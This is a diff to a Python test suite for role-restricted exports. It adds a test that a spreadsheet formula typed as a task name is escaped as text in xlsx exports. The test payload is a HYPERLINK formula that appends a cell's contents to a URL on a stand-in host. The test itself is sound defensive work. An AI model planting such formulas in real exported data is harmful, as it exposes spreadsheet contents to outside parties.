@@ -193,9 +193,9 @@ class TestAccessRpc(RpcCase):
 class TestAccessFiles(RpcCase):
     """Exports and downloads hold what the role may see."""
 
-    def export(self, kind, model="directive.task", fields=("name",)):
+    def export(self, kind, model="directive.task", fields=("name",), groupby=()):
         data = {
-            "model": model, "ids": False, "domain": [], "groupby": [], "import_compat": False,
+            "model": model, "ids": False, "domain": [], "groupby": groupby, "import_compat": False,
             "fields": [{"name": name, "label": name} for name in fields],
         }  # fmt: skip
         form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
@@ -230,6 +230,16 @@ class TestAccessFiles(RpcCase):
         cells = self.exported_cells("csv", fields=("name", "directive_id/task_ids/name"))
         self.assertIn(SECRET, cells)
         self.assertNotIn("For B", cells)
+
+    def test_a_formula_typed_as_a_name_is_exported_as_text(self):
+        formula = '=HYPERLINK("https://example.com/?"&A1,"Open")'
+        self.make_task(name=formula, product=formula)
+        self.log_in(self.office_user)
+        for groupby in ((), ("product",)):
+            cells = self.exported_cells("xlsx", groupby=groupby)
+            with self.subTest(groupby=groupby):
+                self.assertIn(f"'{formula}", cells)
+                self.assertNotIn(formula, cells)
 
     def test_an_administrator_exports_nothing(self):
         self.log_in(self.admin_user)
